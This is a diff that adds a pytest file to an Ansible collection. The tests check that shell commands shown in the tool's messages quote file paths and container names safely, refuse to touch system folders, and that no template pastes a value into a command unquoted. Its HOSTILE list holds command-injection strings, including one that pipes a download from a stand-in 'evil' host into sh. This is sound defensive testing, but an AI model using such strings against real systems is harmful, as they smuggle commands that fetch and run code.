@@ -1,0 +1,142 @@
+# Copyright: (c) 2026, tethys.channels contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Every command in a message is what a shell reads as the words that were meant, whatever a value holds."""
+
+from __future__ import annotations
+
+import ast
+import re
+import shlex
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from ansible_collections.tethys.channels.plugins.module_utils.engines import DockerEngine
+from ansible_collections.tethys.channels.plugins.plugin_utils.plan import Look
+from hypothesis import given
+from hypothesis import strategies as st
+
+ROOT = Path(__file__).parents[4]
+HOME, PREFIX = "/var/lib/tethys", "/opt/conda/envs/tethys"
+HOSTILE = ["/srv/x; curl evil|sh #", "/srv/$(id)", "/srv/a b", "/srv/'\"", "/srv/-rf", "/srv/*", "/srv/~", "/srv/a&&b"]
+# Whatever an app or a person can have in a name and that prints.
+NAMES = st.text(
+    alphabet=st.characters(blacklist_categories=("C", "Zl", "Zp", "Zs"), blacklist_characters="`"), min_size=1
+)
+
+
+def look(**portal: Any) -> Look:
+    """What was found of a portal."""
+    asked = {"tethys_home": HOME, "tethys_conda_prefix": PREFIX, "tethys_user": "", "tethys_layer_backend": "core",
+             "tethys_layer_hosts": [], "tethys_layer_redis": ["a"]}  # fmt: skip
+    found = {"server": {"root": True}, "portal": {"user": "www-data", "versions": {"tethys_platform": "4"}, **portal}}
+    return Look(asked, {"goal": "site"}, found)
+
+
+def commands(reasons: list[str]) -> list[list[str]]:
+    """The words of the commands in these messages."""
+    return [shlex.split(command) for reason in reasons for command in re.findall("`(.*?)`", reason, re.DOTALL)]
+
+
+def access(path: str, need: str, **more: Any) -> list[list[str]]:
+    """The commands that give the portal's user a right."""
+    row = {"path": path, "need": need, "ok": False, "blocked_by": path, "owner": "root", **more}
+    found = look(access=[row])
+    found.portal_reasons()
+    return commands(found.reasons)
+
+
+@pytest.mark.parametrize("path", HOSTILE)
+def test_a_path_of_an_app(path: str) -> None:
+    assert access(path, "write") == [["setfacl", "-m", "u:www-data:rwX", path], ["chown", "-h", "www-data", path]]
+    assert access(path, "read") == [["setfacl", "-m", "u:www-data:r", path]]
+
+
+@given(NAMES)
+def test_any_path_of_an_app(name: str) -> None:
+    path = f"/srv/x/{name}"
+    if "/../" in f"{path}/":
+        return
+    assert access(path, "read") == [["setfacl", "-m", "u:www-data:r", path]]
+
+
+SHARED = ["/", "/etc", "/etc/", "/usr", "/var", "/home", "/tmp", "/opt", "/srv", "/var/log", "/run", "/root", "//etc"]
+
+
+@pytest.mark.parametrize("path", [*SHARED, "/etc/cron.d", "/usr/lib/x", "/root/.ssh", "/srv/../etc", "relative", "-R"])
+def test_no_command_gives_a_folder_of_the_system_away(path: str) -> None:
+    assert access(path, "write") == []
+    row = {"folder": path, "owner": "root", "uid": 0, "count": 2, "example": f"{path}/x"}
+    assert commands(list(look(leftovers=[row])._leftover_reasons("root"))) == []
+
+
+def test_a_link_of_an_app_is_judged_by_what_it_leads_to() -> None:
+    assert access(f"{HOME}/media", "write", real="/etc") == []
+    [first, _second] = access(f"{HOME}/media", "write", real="/srv/media")
+    assert first[-1] == "/srv/media"
+    row = {"folder": f"{HOME}/media", "owner": "root", "uid": 0, "count": 1, "example": "x", "real": "/etc"}
+    assert commands(list(look(leftovers=[row])._leftover_reasons("root"))) == []
+
+
+def test_what_the_administrator_named_may_be_given() -> None:
+    prefix = "/usr/local/conda/envs/tethys"
+    found = look(access=[{"path": f"{prefix}/bin", "need": "read", "ok": False, "blocked_by": None, "owner": "root"}])
+    found.asked = {**found.asked, "tethys_conda_prefix": prefix}
+    found.portal_reasons()
+    assert commands(found.reasons) == [["setfacl", "-m", "u:www-data:r", f"{prefix}/bin"]]
+
+
+@pytest.mark.parametrize("folder", HOSTILE)
+def test_what_root_left_in_a_folder(folder: str) -> None:
+    row = {"folder": folder, "owner": "root", "uid": 0, "count": 2, "example": f"{folder}/x"}
+    [words] = commands(list(look(leftovers=[row])._leftover_reasons("root")))
+    assert words == ["find", folder, "-user", "root", "-exec", "chown", "-h", "www-data", "{}", "+"]
+
+
+@given(NAMES)
+def test_the_name_of_a_container(name: str) -> None:
+    assert shlex.split(DockerEngine.logs(name)) == ["docker", "logs", name]
+    found = look()
+    found.server = {
+        **found.server,
+        "container": {"name": name, "running": True, "labels": {"tethys.channels.config": "1"}},
+    }
+    found._leave_own()
+    assert commands(found.announce) == [["docker", "rm", "-f", name]]
+
+
+# --- no other place ---------------------------------------------------------------------------------------------------
+
+COMMANDS = re.compile(
+    r"`(chown|chmod|setfacl|rm|mv|cp|ln|find|docker|podman|supervisorctl|systemctl|journalctl|kill|pip|ansible)\b[^`]*$"
+)
+# Numbers only.
+NUMBERS = {"`kill -CONT "}
+
+
+def test_no_message_of_python_pastes_a_value_into_a_command() -> None:
+    """A command begins with a backtick in one of the constants of an f-string; what follows it must not be a value."""
+    found = []
+    for path in sorted((ROOT / "plugins").rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if not isinstance(node, ast.JoinedStr):
+                continue
+            for before, value in zip(node.values, node.values[1:]):
+                if isinstance(before, ast.Constant) and isinstance(value, ast.FormattedValue):
+                    match = COMMANDS.search(str(before.value))
+                    if match and match.group(0) not in NUMBERS:
+                        found.append(f"{path.name}:{node.lineno}: {match.group(0)}")
+    assert found == []
+
+
+def test_no_message_of_a_role_pastes_a_value_into_a_command() -> None:
+    found = []
+    for path in sorted((ROOT / "roles").glob("*/tasks/*.yml")):
+        text = path.read_text(encoding="utf-8")
+        assert yaml.safe_load(text) is not None
+        for command in re.findall(r"`((?:chown|chmod|docker|podman|ansible|systemctl)\b[^`\n]*)`", text):
+            values = re.findall(r"\{\{(.*?)\}\}", command)
+            found += [f"{path.parent.parent.name}/{path.name}: {value}" for value in values if "| quote" not in value]
+    assert found == []
